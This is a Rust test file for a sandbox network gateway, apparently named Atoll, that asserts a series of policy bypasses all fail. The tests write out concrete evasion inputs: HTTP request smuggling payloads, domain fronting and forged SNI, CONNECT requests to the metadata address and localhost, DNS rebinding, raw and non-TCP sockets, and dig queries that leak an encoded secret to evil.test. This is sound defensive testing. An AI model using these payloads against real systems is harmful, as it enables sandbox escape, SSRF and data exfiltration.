@@ -1,0 +1,501 @@
+//! Ways around the policy, each of which must lead nowhere. What counts is what the internet was asked to
+//! dial and the zone was asked to resolve, not only what the attacker saw.
+
+use crate::common::outside::{OTHER, Outside, SHARED, WEB, allow, policy, sandbox};
+use atoll_blackbox::{Server, has_own_kernel};
+use atoll_core::policy::EgressPolicy;
+use serde_json::json;
+
+const CURL: &str = "curl -sS --max-time 20 -w '%{http_code}\\n'";
+
+/// Runs Python inside. Arguments of the shell must not hold double quotes.
+async fn python(server: &Server, id: &str, code: &str) -> String {
+    let create = atoll_api::CreateExec {
+        argv: Some(["python3", "-c", code].map(str::to_owned).to_vec()),
+        ..atoll_api::CreateExec::default()
+    };
+    let done = server.run(id, create).await;
+    let (out, err) = crate::common::outputs(server, id, &done.exec.id).await;
+    format!("{}{}", String::from_utf8_lossy(&out), String::from_utf8_lossy(&err))
+}
+
+/// Sends bytes to an address from inside and gives what comes back.
+async fn raw(server: &Server, id: &str, to: (&str, u16), bytes: &str) -> String {
+    let (host, port) = to;
+    let code = format!(
+        "import socket\ns = socket.create_connection(('{host}', {port}), 20)\ns.settimeout(20)\n\
+         s.sendall(b'{bytes}')\nd = b''\n\
+         try:\n  while True:\n    c = s.recv(65536)\n    if not c: break\n    d += c\n\
+         except Exception as e: print('error', e)\nprint(d)"
+    );
+    python(server, id, &code).await
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nobody_connects_to_where_no_request_may_pass() {
+    let outside = Outside::new();
+    outside.web(&format!("{WEB}:80"));
+    let server = outside.server();
+    // TLS has to be opened for such a rule, and the server outside is asked first how it speaks.
+    let rules = json!({"internet": "on", "rules": [{"action": "deny", "methods": ["POST"]}]});
+    let id = sandbox(&server, policy(rules)).await.id;
+    for to in ["rebind.test", "lan.test"] {
+        for line in [
+            format!("curl -sSk --max-time 20 https://{to}/"),
+            format!("curl -sSk --max-time 20 -x http://10.0.2.2:3128 https://{to}/"),
+            format!(
+                "printf x | openssl s_client -connect $(getent hosts {to} | cut -d' ' -f1):443 -servername {to} 2>&1"
+            ),
+        ] {
+            server.sh(&id, &line).await;
+        }
+    }
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    // However a path is written, what is denied stays outside.
+    let rules = json!({"internet": "on", "rules": [{"action": "deny", "path": "/admin*"}]});
+    let id = sandbox(&server, policy(rules)).await.id;
+    let ok = server.sh(&id, &format!("{CURL} http://web.test/x -o /dev/null")).await;
+    assert_eq!(ok.stdout, "200\n");
+    for path in ["/admin", "/%61dmin", "/ADMIN", "/;/admin", "/a;b"] {
+        let refused = server.sh(&id, &format!("{CURL} 'http://web.test{path}' -o /dev/null")).await;
+        assert_eq!(refused.stdout, "403\n", "{path}");
+    }
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_server_and_what_its_operator_closed_are_no_part_of_the_internet() {
+    let outside = Outside::new();
+    for address in [WEB, OTHER, SHARED] {
+        outside.web(&format!("{address}:80"));
+    }
+    outside.name("atoll.test", OTHER);
+    outside.name("1-atoll.ports.test", SHARED);
+    let closed = format!("{WEB}/32");
+    let server = outside.server_with(&[
+        "--closed-cidr",
+        &closed,
+        "--public-url",
+        "https://atoll.test",
+        "--ports-domain",
+        "ports.test",
+    ]);
+    let id = sandbox(&server, EgressPolicy::open()).await.id;
+    // The addresses of its names are looked up when the first sandbox is there.
+    atoll_blackbox::wait_until("the server's names", async || {
+        outside.questions().iter().any(|asked| asked.starts_with("1-atoll.ports.test 28")).then_some(())
+    })
+    .await;
+    for to in [WEB, OTHER, SHARED, "atoll.test", "3000-web.ports.test"] {
+        let refused = server.sh(&id, &format!("{CURL} -o /dev/null http://{to}/")).await;
+        assert_ne!(refused.stdout, "200\n", "{to}: {refused:?}");
+    }
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    let rules = json!({"internet": "on", "rules": [{"action": "allow", "cidr": WEB}, {"action": "allow", "cidr": OTHER}]});
+    let id = sandbox(&server, policy(rules)).await.id;
+    for to in [WEB, OTHER] {
+        let reached = server.sh(&id, &format!("{CURL} -o /dev/null http://{to}/")).await;
+        assert_eq!(reached.stdout, "200\n", "{to}");
+    }
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_forged_server_name_on_another_address() {
+    let outside = Outside::new();
+    outside.banner(&format!("{OTHER}:443"));
+    let server = outside.server();
+    let id = sandbox(&server, allow(&["tls.test:443", "*.cdn.test"])).await.id;
+    // The name is looked up, so it is known; only the address is another one.
+    let forged = format!(
+        "getent hosts tls.test; openssl s_client -connect {OTHER}:443 -servername tls.test </dev/null 2>&1"
+    );
+    assert!(server.sh(&id, &forged).await.stdout.contains("alert"));
+    // In pieces, slowly, and after a silence that looks like waiting for the server.
+    let slow = format!(
+        "import socket, ssl, time\n\
+         c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n\
+         i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\nt = c.wrap_bio(i, o, server_hostname='tls.test')\n\
+         try: t.do_handshake()\nexcept ssl.SSLWantReadError: pass\nhello = o.read()\n\
+         for pause in (0, 1):\n  s = socket.create_connection(('{OTHER}', 443), 20); time.sleep(pause)\n  \
+         try:\n    for b in range(0, len(hello), 100): s.sendall(hello[b:b+100]); time.sleep(0.01)\n    \
+         print('got', s.recv(100))\n  except OSError as e: print('error', e)"
+    );
+    let out = python(&server, &id, &slow).await;
+    assert!(!out.contains("220 welcome"), "{out}");
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn domain_fronting_over_http() {
+    let outside = Outside::new();
+    let seen = outside.web(&format!("{SHARED}:80"));
+    let server = outside.server();
+    let id = sandbox(&server, allow(&["a.cdn.test"])).await.id;
+    let fronted = server.sh(&id, &format!("{CURL} -H 'Host: b.cdn.test' http://a.cdn.test/x")).await;
+    assert!(fronted.stdout.ends_with("403\n"), "{fronted:?}");
+    // In the second request of a connection, by an absolute URI, by two headers, in another spelling.
+    for (request, status) in [
+        (
+            "GET /1 HTTP/1.1\\r\\nHost: a.cdn.test\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: b.cdn.test\\r\\nConnection: close\\r\\n\\r\\n",
+            "403",
+        ),
+        ("GET http://b.cdn.test/ HTTP/1.1\\r\\nHost: a.cdn.test\\r\\nConnection: close\\r\\n\\r\\n", "400"),
+        ("GET http://b.cdn.test/ HTTP/1.1\\r\\nHost: b.cdn.test\\r\\nConnection: close\\r\\n\\r\\n", "403"),
+        (
+            "GET / HTTP/1.1\\r\\nHost: a.cdn.test\\r\\nHost: b.cdn.test\\r\\nConnection: close\\r\\n\\r\\n",
+            "400",
+        ),
+        ("GET / HTTP/1.1\\r\\nHost: a.cdn.test@b.cdn.test\\r\\nConnection: close\\r\\n\\r\\n", "400"),
+        ("GET / HTTP/1.0\\r\\n\\r\\n", "403"),
+        ("get\\t/ http/1.1\\r\\nhost: b.cdn.test\\r\\n\\r\\n", "400"),
+        ("\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: b.cdn.test\\r\\nConnection: close\\r\\n\\r\\n", "403"),
+        ("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", "error"),
+    ] {
+        let answer = raw(&server, &id, ("a.cdn.test", 80), request).await;
+        assert!(answer.contains(status), "{request}: {answer}");
+    }
+    // With a silence first, so that the gateway may think that the server speaks first.
+    let silent = "import socket, time\ns = socket.create_connection(('a.cdn.test', 80), 20); time.sleep(1)\n\
+         s.sendall(b'GET / HTTP/1.1\\r\\nHost: b.cdn.test\\r\\nConnection: close\\r\\n\\r\\n')\nprint(s.recv(9999))";
+    assert!(python(&server, &id, silent).await.contains("403"));
+    let hosts = seen.lock().unwrap().join("\n").to_lowercase();
+    assert!(hosts.contains("host: a.cdn.test") && !hosts.contains("b.cdn.test"), "{hosts}");
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_request_hidden_in_another() {
+    let outside = Outside::new();
+    let seen = outside.web(&format!("{WEB}:80"));
+    let server = outside.server();
+    let rules = json!({"internet": "rules", "rules": [
+        {"action": "allow", "domain": "web.test", "ports": [80], "path": "/open*"}]});
+    let id = sandbox(&server, policy(rules)).await.id;
+    let hidden = "GET /hidden HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n";
+    let requests = [
+        // A length and chunks.
+        format!(
+            "POST /open HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{hidden}"
+        ),
+        format!(
+            "POST /open HTTP/1.1\\r\\nHost: web.test\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 5\\r\\n\\r\\n0\\r\\n\\r\\n{hidden}"
+        ),
+        // Two lengths.
+        format!(
+            "POST /open HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 0\\r\\nContent-Length: 52\\r\\n\\r\\n{hidden}"
+        ),
+        // Encodings that only one side knows.
+        format!(
+            "POST /open HTTP/1.1\\r\\nHost: web.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n{hidden}"
+        ),
+        format!(
+            "POST /open HTTP/1.1\\r\\nHost: web.test\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{hidden}"
+        ),
+        format!("POST /open HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: +0\\r\\n\\r\\n{hidden}"),
+        // Line ends that only one side takes for one.
+        "GET /open HTTP/1.1\\r\\nHost: web.test\\r\\nX: y\\rGET /hidden HTTP/1.1\\r\\n\\r\\n".to_owned(),
+        format!(
+            "GET /open HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: content-length\\r\\nContent-Length: 52\\r\\n\\r\\n{hidden}"
+        ),
+        "GET /open/../hidden HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n".to_owned(),
+        "GET /open%2f..%2fhidden HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n".to_owned(),
+    ];
+    // At once: each waits whether something comes after its answer.
+    let listed = requests.map(|request| format!("b'{request}'")).join(", ");
+    let code = format!(
+        "import socket, threading\n\
+         def send(request):\n  \
+           s = socket.create_connection(('web.test', 80), 20); s.settimeout(2)\n  \
+           s.sendall(request)\n  \
+           try:\n    \
+             while s.recv(65536): pass\n  \
+           except OSError: pass\n\
+         t = [threading.Thread(target=send, args=(r,)) for r in [{listed}]]\n\
+         [x.start() for x in t]; [x.join() for x in t]"
+    );
+    let said = python(&server, &id, &code).await;
+    assert_eq!(said, "", "every request was sent");
+    let lines: Vec<String> =
+        seen.lock().unwrap().iter().map(|head| head.lines().next().unwrap_or_default().to_owned()).collect();
+    assert!(lines.iter().any(|line| line.contains(" /open ")), "some requests are passed on: {lines:?}");
+    assert!(!lines.iter().any(|line| line.contains("hidden")), "{lines:?}");
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn tricks_with_the_explicit_proxy() {
+    let outside = Outside::new();
+    let cdn = outside.web(&format!("{SHARED}:80"));
+    outside.banner(&format!("{SHARED}:443"));
+    outside.web(&format!("{WEB}:80"));
+    let server = outside.server();
+    let id = sandbox(&server, allow(&["a.cdn.test"])).await.id;
+    let proxy = ("10.0.2.2", 3128);
+    for (request, status) in [
+        ("CONNECT other.test:443 HTTP/1.1\\r\\nHost: a.cdn.test:443\\r\\n\\r\\n", "403"),
+        ("CONNECT 93.184.215.14:80 HTTP/1.1\\r\\n\\r\\n", "403"),
+        ("CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n", "403"),
+        ("CONNECT 127.0.0.1:22 HTTP/1.1\\r\\n\\r\\n", "403"),
+        ("CONNECT [::ffff:127.0.0.1]:22 HTTP/1.1\\r\\n\\r\\n", "403"),
+        ("CONNECT localhost:22 HTTP/1.1\\r\\n\\r\\n", "403"),
+        ("CONNECT 2130706433:22 HTTP/1.1\\r\\n\\r\\n", "40"),
+        ("CONNECT 0x7f.1:22 HTTP/1.1\\r\\n\\r\\n", "400"),
+        ("CONNECT a.cdn.test HTTP/1.1\\r\\n\\r\\n", "400"),
+        ("GET http://other.test/ HTTP/1.1\\r\\nHost: a.cdn.test\\r\\n\\r\\n", "400"),
+        ("GET http://a.cdn.test@other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n", "400"),
+        ("GET / HTTP/1.1\\r\\nHost: a.cdn.test\\r\\n\\r\\n", "400"),
+        ("GET ftp://a.cdn.test/ HTTP/1.1\\r\\nHost: a.cdn.test\\r\\n\\r\\n", "400"),
+    ] {
+        let request = request.replacen("\\r\\n\\r\\n", "\\r\\nConnection: close\\r\\n\\r\\n", 1);
+        let answer = raw(&server, &id, proxy, &request).await;
+        assert!(answer.contains(&format!("HTTP/1.1 {status}")), "{request}: {answer}");
+    }
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    // What is said inside a tunnel is held to the policy as well.
+    let host = server
+        .sh(&id, &format!("{CURL} -p -x http://10.0.2.2:3128 -H 'Host: b.cdn.test' http://a.cdn.test/"))
+        .await;
+    assert!(host.stdout.ends_with("403\n"), "{host:?}");
+    let name = "openssl s_client -proxy 10.0.2.2:3128 -connect a.cdn.test:443 -servername b.cdn.test </dev/null 2>&1";
+    assert!(server.sh(&id, name).await.stdout.contains("alert"));
+    assert_eq!((cdn.lock().unwrap().len(), outside.dials()), (0, vec![]));
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn data_in_names() {
+    let outside = Outside::new();
+    let server = outside.server();
+    let id = sandbox(&server, allow(&["web.test", "*.cdn.test"])).await.id;
+    let secret = "c2VjcmV0".repeat(7);
+    for dig in [
+        // Of a name that no rule allows, of any type, by any resolver, over any transport.
+        format!("dig +tries=1 +time=5 {secret}.evil.test"),
+        format!("dig +tries=1 +time=5 {secret}.evil.test TXT"),
+        format!("dig +tries=1 +time=5 +tcp {secret}.evil.test"),
+        format!("dig +tries=1 +time=2 @8.8.8.8 {secret}.evil.test"),
+        format!("dig +tries=1 +time=2 +tcp @8.8.8.8 {secret}.evil.test"),
+        // Of an allowed one, but of a kind that only carries data, or longer than names are.
+        format!("dig +tries=1 +time=5 {secret}.cdn.test TXT"),
+        format!("dig +tries=1 +time=5 {secret}.cdn.test NULL"),
+        format!("dig +tries=1 +time=5 {secret}.cdn.test ANY"),
+        format!("dig +tries=1 +time=5 {secret}.cdn.test HTTPS"),
+        format!("dig +tries=1 +time=5 {secret}.{secret}.{secret}.cdn.test"),
+        "dig +tries=1 +time=5 -x 93.184.215.14".to_owned(),
+        // Within an allowed one's own zone it is the owner of that zone who hears it.
+        "dig +tries=1 +time=5 web.test".to_owned(),
+    ] {
+        server.sh(&id, &dig).await;
+    }
+    assert_eq!(outside.questions(), ["web.test 1"]);
+    let why = server.sh(&id, "dig +tries=1 +time=5 x.evil.test").await;
+    assert!(why.stdout.contains("NXDOMAIN") && why.stdout.contains("no rule allows it"), "{why:?}");
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    // Many different names under an allowed one run dry.
+    let many = "import socket\nfor i in range(600):\n  try: socket.getaddrinfo(f'n{i}.cdn.test', 80, socket.AF_INET)\n  except OSError: pass";
+    let begin = std::time::Instant::now();
+    python(&server, &id, many).await;
+    // Ten seconds' worth are saved up, then so many a second, however long it took.
+    let most = 200 + 20 * (begin.elapsed().as_secs() + 2) + 1;
+    let heard = outside.questions().len() as u64;
+    assert!(heard <= most, "{heard} of 600 names were passed on");
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn other_resolvers_even_where_the_internet_is_on() {
+    let outside = Outside::new();
+    outside.banner("8.8.8.8:53");
+    outside.banner("8.8.8.8:853");
+    outside.web(&format!("{WEB}:80"));
+    let server = outside.server();
+    let id = sandbox(&server, EgressPolicy::open()).await.id;
+    server
+        .sh(&id, "dig +tries=1 +time=2 @8.8.8.8 web.test; dig +tries=1 +time=2 +tcp @8.8.8.8 web.test")
+        .await;
+    server.sh(&id, "openssl s_client -connect 8.8.8.8:853 </dev/null").await;
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    // DNS over HTTPS is a website, and needs a rule like one where the internet is not on.
+    let rules = sandbox(&server, allow(&["web.test"])).await.id;
+    for to in ["https://8.8.8.8/dns-query", "https://dns.test/dns-query", "http://8.8.8.8/dns-query"] {
+        let asked = server.sh(&rules, &format!("curl -sSk --max-time 20 '{to}?dns=AAABAAABAAA'")).await;
+        assert!(asked.code != Some(0) || asked.stdout.contains("Atoll refused"), "{to}: {asked:?}");
+    }
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    // An address that was found elsewhere does not get around a name that is denied.
+    let denied = json!({"internet": "on", "rules": [{"action": "deny", "domain": "web.test"}]});
+    let id = sandbox(&server, policy(denied)).await.id;
+    let found =
+        server.sh(&id, &format!("{CURL} --resolve web.test:80:{WEB} http://web.test/ -o /dev/null")).await;
+    assert_eq!(found.stdout, "403\n", "{found:?}");
+    let forged = server.sh(&id, &format!("{CURL} -H 'Host: fine.test' http://{WEB}/ -o /dev/null")).await;
+    assert_eq!(forged.stdout, "403\n", "{forged:?}");
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn private_addresses_the_host_and_its_neighbours() {
+    let outside = Outside::new();
+    let server = outside.server();
+    let id = sandbox(&server, EgressPolicy::open()).await.id;
+    let port = server.url.rsplit(':').next().unwrap().to_owned();
+    // By address, by a name that rebinds, by other ways to write it.
+    for to in [
+        "169.254.169.254",
+        "10.0.0.1",
+        "192.168.77.1",
+        "172.17.0.1",
+        "100.100.100.200",
+        "198.18.0.1",
+        "0.0.0.1",
+        "240.0.0.1",
+        "rebind.test",
+        "lan.test",
+    ] {
+        let refused = server.sh(&id, &format!("{CURL} http://{to}/")).await;
+        assert!(refused.stdout.ends_with("403\n") || refused.code != Some(0), "{to}: {refused:?}");
+        let proxied = server.sh(&id, &format!("{CURL} -x http://10.0.2.2:3128 http://{to}/")).await;
+        assert!(proxied.stdout.ends_with("403\n"), "{to}: {proxied:?}");
+    }
+    for to in [
+        format!("127.0.0.1:{port}"),
+        format!("localhost:{port}"),
+        format!("[::1]:{port}"),
+        format!("[::ffff:127.0.0.1]:{port}"),
+    ] {
+        let proxied =
+            server.sh(&id, &format!("{CURL} -x http://10.0.2.2:3128 http://{to}/healthz -o /dev/null")).await;
+        assert!(proxied.stdout.starts_with('4') || proxied.stdout.starts_with("502"), "{to}: {proxied:?}");
+    }
+    // A name that is public when it is looked up and private when it is used.
+    outside.name("turn.test", "9.9.9.9");
+    server.sh(&id, "getent hosts turn.test").await;
+    outside.name("turn.test", "127.0.0.1");
+    let turned = server
+        .sh(
+            &id,
+            &format!(
+                "sleep 1.2; {CURL} -x http://10.0.2.2:3128 http://turn.test:{port}/healthz -o /dev/null"
+            ),
+        )
+        .await;
+    assert_eq!(turned.stdout, "403\n", "{turned:?}");
+    // Another sandbox.
+    let other = sandbox(&server, EgressPolicy::open()).await.id;
+    server.shell(&other, "exec python3 -m http.server --bind 0.0.0.0 8000").await;
+    assert!(server.sh(&id, "curl -s --max-time 5 http://10.0.2.15:8000/").await.code != Some(0));
+    assert_eq!(outside.dials(), Vec::<String>::new());
+    // A rule by address is what opens one.
+    let opened =
+        json!({"internet": "rules", "rules": [{"action": "allow", "cidr": "127.0.0.1", "ports": [port]}]});
+    let id = sandbox(&server, policy(opened)).await.id;
+    let reached =
+        server.sh(&id, &format!("{CURL} -x http://10.0.2.2:3128 {}/healthz -o /dev/null", server.url)).await;
+    assert_eq!(reached.stdout, "200\n", "{reached:?}");
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn everything_that_is_not_tcp() {
+    let outside = Outside::new();
+    let server = outside.server();
+    let id = sandbox(&server, EgressPolicy::open()).await.id;
+    let tries = "
+import socket
+def attempt(what, family, kind, protocol, to):
+    try:
+        s = socket.socket(family, kind, protocol); s.settimeout(2)
+        s.connect(to) if kind == socket.SOCK_DGRAM else None
+        s.sendto(b'x' * 64, to) if kind != socket.SOCK_DGRAM else s.send(b'x' * 64)
+        s.recv(100); print(what, 'ANSWERED')
+    except Exception as e: print(what, type(e).__name__)
+attempt('dns', 2, 2, 0, ('8.8.8.8', 53))
+attempt('quic', 2, 2, 0, ('93.184.215.14', 443))
+attempt('ping', 2, 2, 1, ('8.8.8.8', 0))
+attempt('icmp', 2, 3, 1, ('8.8.8.8', 0))
+attempt('raw', 2, 3, 255, ('8.8.8.8', 0))
+attempt('sctp', 2, 1, 132, ('8.8.8.8', 80))
+attempt('udplite', 2, 2, 136, ('8.8.8.8', 53))
+attempt('udp6', 10, 2, 0, ('2001:4860:4860::8888', 53))
+attempt('mapped', 10, 2, 0, ('::ffff:8.8.8.8', 53))
+attempt('vsock', 40, 1, 0, (2, 22))
+";
+    let out = python(&server, &id, tries).await;
+    assert_eq!(out.lines().count(), 10, "{out}");
+    assert!(!out.contains("ANSWERED"), "{out}");
+    // No change of the network by root inside; where it has a kernel of its own, none that helps.
+    for change in [
+        "ip link add d0 type dummy",
+        "ip addr add 1.2.3.4/32 dev lo",
+        "ip route add 1.1.1.1 dev lo",
+        "nft add table ip x",
+    ] {
+        assert!(server.sh(&id, change).await.code != Some(0) || has_own_kernel(), "{change}");
+    }
+    if has_own_kernel() {
+        let other = "ip addr replace 10.0.2.77/24 dev eth0; ip route replace default via 10.0.2.2 dev eth0 src 10.0.2.77";
+        assert_eq!(server.sh(&id, other).await.code, Some(0));
+        assert!(!python(&server, &id, tries).await.contains("ANSWERED"));
+        let spoofed = format!("{CURL} --interface 10.0.2.77 --max-time 3 http://{WEB}/");
+        assert_ne!(server.sh(&id, &spoofed).await.code, Some(0));
+    }
+    assert_eq!((outside.dials(), outside.questions()), (vec![], vec![]));
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn squatters_and_sockets_of_the_host() {
+    let outside = Outside::new();
+    let seen = outside.web(&format!("{WEB}:80"));
+    let mut server = outside.server();
+    let id = sandbox(&server, allow(&["web.test:80"])).await.id;
+    // A program inside listens on everything: it does not catch what others send out, nor the gateway's own.
+    let squat = "import socket, time\nk = []\n\
+        for port in (80, 443, 3128, 8080):\n  s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(('0.0.0.0', port)); s.listen(); k.append(s)\n\
+        print('ready', flush=True); time.sleep(600)";
+    let create = atoll_api::CreateExec {
+        argv: Some(["python3", "-c", squat].map(str::to_owned).to_vec()),
+        ..atoll_api::CreateExec::default()
+    };
+    let exec = server.client.create_exec(&id, &create).await.unwrap().exec.id;
+    crate::common::follow(&server, &id, &exec, 6).await;
+    let get = format!("{CURL} http://web.test/");
+    assert!(server.sh(&id, &get).await.stdout.contains("hello from"));
+    let proxied = format!("{CURL} -x http://10.0.2.2:3128 http://web.test/");
+    assert!(server.sh(&id, &proxied).await.stdout.contains("hello from"));
+    // Nor does it after a restart in which it was there first.
+    server.kill();
+    server.restart();
+    let again = atoll_blackbox::wait_until("the network is taken up", async || {
+        server.sh(&id, &get).await.stdout.contains("hello from").then_some(())
+    });
+    again.await;
+    assert!(server.sh(&id, &proxied).await.stdout.contains("hello from"));
+    assert!(!seen.lock().unwrap().is_empty());
+    // Nothing of the server's own sockets is to be found from inside.
+    let search =
+        "ls -d /proc/[0-9]*/root/var/lib/atoll /proc/[0-9]*/root/var/lib/dpkg /proc/[0-9]*/root/boot";
+    assert_ne!(server.sh(&id, search).await.code, Some(0));
+    let unix = "cat /proc/net/unix | grep -v guest | grep -ci atoll";
+    assert_eq!(server.sh(&id, unix).await.stdout, "0\n");
+    server.finish().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn upgrades_carry_no_second_protocol() {
+    let outside = Outside::new();
+    let seen = outside.web(&format!("{WEB}:80"));
+    let server = outside.server();
+    let id = sandbox(&server, allow(&["web.test:80"])).await.id;
+    let h2c = "GET / HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: Upgrade, HTTP2-Settings, close\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAA\\r\\n\\r\\n";
+    raw(&server, &id, ("web.test", 80), h2c).await;
+    let heads = seen.lock().unwrap().join("\n").to_lowercase();
+    assert!(
+        heads.contains("host: web.test") && !heads.contains("h2c") && !heads.contains("http2-settings"),
+        "{heads}"
+    );
+    server.finish().await;
+}
